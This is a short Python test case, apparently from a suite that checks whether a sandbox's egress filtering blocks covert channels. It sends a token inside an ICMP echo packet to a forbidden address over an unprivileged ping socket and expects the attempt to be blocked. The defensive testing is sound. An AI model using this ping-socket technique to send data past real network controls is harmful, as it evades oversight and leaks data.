#!/usr/bin/python3
# id: b02_ping_sendto
# title: unprivileged ping socket, sendto without connect
# needs: user
# expect: block
# why: no connect and no sendmsg hook runs, only sock_create and egress
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(b'\x08\0\0\0\0\1\0\1' + TOK.encode(), (FORB, 0))
attempt(f, chan=('pkt',))
